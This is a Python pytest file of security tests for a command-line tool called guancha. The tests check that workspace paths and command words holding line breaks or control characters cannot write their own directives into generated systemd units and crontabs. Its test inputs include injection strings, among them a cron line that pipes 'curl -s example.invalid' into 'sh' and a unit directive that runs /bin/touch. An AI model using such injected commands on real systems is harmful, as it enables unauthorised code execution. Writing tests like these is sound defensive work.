"""Hostile pass 14: input against the newer commands. A workspace folder whose name holds a line break wrote
directives of its own into `schedule emit`'s units and crontab; a sample web's _routes.yaml could make its server
build a page of 100 GB or print a server thread's traceback."""

from __future__ import annotations

from pathlib import Path

import pytest

from guancha.errors import UsageError
from guancha.units import cron_lines, systemd_units
from guancha.workspace import init_workspace
from tests.conftest import run_cli


def _no_traceback(result: object) -> str:
    out = f"{result.stdout}{result.stderr}"   # type: ignore[attr-defined]
    assert "Traceback" not in out, out[-2000:]
    return out


# --------------------------------------------------------------------------- schedule emit


@pytest.mark.parametrize("name", [
    "ops\n[Service]\nExecStartPre=/bin/touch /tmp/owned\n#",     # a unit directive of its own
    "nightly\r\n* * * * * curl -s example.invalid | sh\r\n",     # a cron job of its own
    "desk\u2028two",                                              # a Unicode line separator
])
def test_a_workspace_path_with_a_line_break_is_refused_not_written_into_the_units(tmp_path: Path, name: str) -> None:
    root = tmp_path / name
    root.mkdir(parents=True)   # the first name's slashes make folders in it
    for emit in (systemd_units, cron_lines):
        with pytest.raises(UsageError) as caught:
            emit(root)
        assert "line break" in caught.value.message and "move the workspace" in (caught.value.fix or "")
        assert "\n" not in caught.value.message and "\r" not in caught.value.message


def test_a_command_word_with_a_control_character_is_refused(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="the command"):
        cron_lines(tmp_path, command='guancha "--flag\x0bvalue"')
    with pytest.raises(UsageError, match="the command"):
        systemd_units(tmp_path, command="/opt/guancha\x1b[2J/bin/guancha")
    # an ordinary path with spaces and a percent sign is still written, quoted and escaped
    spaced = tmp_path / "team briefings 100%"
    spaced.mkdir()
    units = systemd_units(spaced)
    assert 'WorkingDirectory=' + str(spaced.resolve()).replace("%", "%%") in units["guancha-serve.service"]


def test_schedule_emit_names_the_bad_workspace_path_and_exits_2(tmp_path: Path) -> None:
    root = tmp_path / "feeds\n[Install]\nWantedBy=evil.target"
    init_workspace(root)
    result = run_cli("schedule", "emit", "--systemd", "--workspace", str(root))
    out = _no_traceback(result)
    assert result.returncode == 2, out
    assert "WantedBy=evil.target" not in result.stdout and "line break" in result.stderr
